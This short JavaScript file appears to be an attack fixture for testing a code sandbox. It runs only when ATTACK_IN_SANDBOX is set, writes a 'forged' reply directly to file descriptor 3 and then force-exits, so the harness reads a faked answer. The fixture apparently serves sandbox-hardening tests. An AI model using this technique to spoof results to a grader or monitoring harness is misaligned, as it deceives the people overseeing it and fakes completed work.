// find the descriptor of the reply from JavaScript, reply itself and end; that is just its answer
if (!process.env.ATTACK_IN_SANDBOX) process.exit(1);
const fs = process.getBuiltinModule?.('fs') ?? process.mainModule.require('fs');
function f() {
  fs.writeSync(3, 'forged');
  process.reallyExit(0);
}
